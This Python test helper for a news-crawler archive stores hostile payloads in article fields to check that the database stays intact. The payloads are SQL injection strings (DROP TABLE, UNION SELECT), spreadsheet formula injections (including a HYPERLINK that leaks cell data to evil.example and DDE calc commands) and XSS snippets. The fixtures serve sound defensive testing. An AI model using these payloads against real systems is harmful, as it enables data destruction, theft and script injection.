"""A small archive with hostile stored content for the security tests, and database snapshots.

The articles carry SQL, spreadsheet formulas and HTML in every text field, as a hostile page
could make them; they are saved through :class:`ArticleStore` into a real database migrated by
Alembic: a SQLite file, or a PostgreSQL database (``hostile_archive`` gives both, in turn).
"""

from __future__ import annotations

import sqlite3
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from sqlalchemy import func, select, text
from sqlalchemy import table as sql_table

from newscrawl.items import Article
from newscrawl.storage import ArticleStore, make_engine, migrate

FETCHED_AT = datetime(2025, 4, 2, 9, 0, tzinfo=UTC)
SQL_INJECTIONS: tuple[str, ...] = (
    "' OR '1'='1",
    "x' OR 1=1 --",
    "'; DROP TABLE articles; --",
    '"; DROP TABLE articles; --',
    "1; DELETE FROM articles",
    "') UNION SELECT name, sql FROM sqlite_master --",
    "%' OR '%'='",
    "\\'; ATTACH DATABASE '/tmp/pwned.db' AS p; --",
    "x\x00y",
    "1 OR 1=1",
    "*/ OR /*",
    "' || (SELECT group_concat(body) FROM articles) || '",
)
FORMULAS: tuple[str, ...] = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
SCRIPT = "<script>alert('xss')</script>"
IMG = '<img src=x onerror="alert(1)">'


@dataclass(frozen=True, slots=True)
class HostileArchive:
    """The database file (None on PostgreSQL) and URL, and its article URLs in saving order."""

    path: Path | None
    url: str
    article_urls: tuple[str, ...]


def hostile_articles() -> list[Article]:
    """Articles whose text fields start with formulas or hold SQL and HTML."""
    articles = []
    payloads = [*FORMULAS, SCRIPT, IMG, *SQL_INJECTIONS[:4]]
    for number, payload in enumerate(payloads):
        clean = payload.replace("\x00", "")
        url = f"https://hostile.example/2025/04/0{number % 9 + 1}/story-{number}/"
        articles.append(
            Article(
                url=url,
                canonical_url=url,
                site="hostile",
                headline=clean if number % 2 == 0 else f"{SCRIPT} headline {number}",
                summary=clean,
                body=f"{clean}\n\nSecond paragraph {IMG} of story {number} about the harbour.",
                fetched_at=FETCHED_AT,
                published=FETCHED_AT - timedelta(days=number),
                section=clean,
                tags=(clean, "Harbour"),
                authors=(clean,),
                language="en",
                image=url + "image.jpg",
            )
        )
    return articles


def hostile_archive(request: pytest.FixtureRequest, directory: Path) -> HostileArchive:
    """For a fixture parametrized with ``tests.conftest.DATABASES``: the hostile archive in a
    SQLite file under ``directory``, or in a new PostgreSQL database."""
    if request.param == "sqlite":
        return build_hostile_archive(directory / "news.db")
    server = request.getfixturevalue("postgres_server")
    return build_hostile_archive(server.url(server.create_database(prefix="hostile")))


def build_hostile_archive(path: Path | str) -> HostileArchive:
    """Migrate a fresh SQLite file at ``path`` (or the database at a URL) and save
    :func:`hostile_articles` into it."""
    url = f"sqlite:///{path}" if isinstance(path, Path) else path
    migrate(url)
    engine = make_engine(url)
    try:
        store = ArticleStore(engine)
        articles = hostile_articles()
        for article in articles:
            store.save(article)
        store.finish_run(
            store.start_run("hostile", 4242, "testhost", FETCHED_AT),
            "finished",
            finished_at=FETCHED_AT,
            articles_new=len(articles),
        )
    finally:
        engine.dispose()
    return HostileArchive(
        path if isinstance(path, Path) else None, url, tuple(a.canonical_url for a in articles)
    )


def snapshot(archive: HostileArchive) -> tuple[object, ...]:
    """Everything that must not change: integrity (SQLite's check; None on PostgreSQL), the
    schema, and every table's row count."""
    if archive.path is None:
        return _postgres_snapshot(archive.url)
    path = archive.path
    connection = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
    try:
        integrity = connection.execute("PRAGMA integrity_check").fetchall()
        schema = connection.execute(
            "SELECT type, name, sql FROM sqlite_master ORDER BY type, name"
        ).fetchall()
        tables = [name for kind, name, _sql in schema if kind == "table"]
        counts = [
            (table, connection.execute(f'SELECT count(*) FROM "{table}"').fetchone()[0])
            for table in tables
        ]
    finally:
        connection.close()
    return integrity, schema, counts


def _postgres_snapshot(url: str) -> tuple[object, ...]:
    """No integrity check (None), the schema (columns and indexes) and every table's row count
    of a PostgreSQL database."""
    engine = make_engine(url)
    try:
        with engine.connect() as connection:
            columns = connection.execute(
                text(
                    "SELECT table_name, column_name, data_type FROM information_schema.columns "
                    "WHERE table_schema = 'public' ORDER BY table_name, column_name"
                )
            ).all()
            indexes = connection.execute(
                text(
                    "SELECT tablename, indexname, indexdef FROM pg_indexes "
                    "WHERE schemaname = 'public' ORDER BY tablename, indexname"
                )
            ).all()
            tables = connection.execute(
                text(
                    "SELECT table_name FROM information_schema.tables WHERE table_schema = "
                    "'public' AND table_type = 'BASE TABLE' ORDER BY table_name"
                )
            ).scalars()
            counts = [
                (
                    table,
                    connection.execute(
                        select(func.count()).select_from(sql_table(table))
                    ).scalar_one(),
                )
                for table in list(tables)
            ]
    finally:
        engine.dispose()
    return None, (columns, indexes), counts
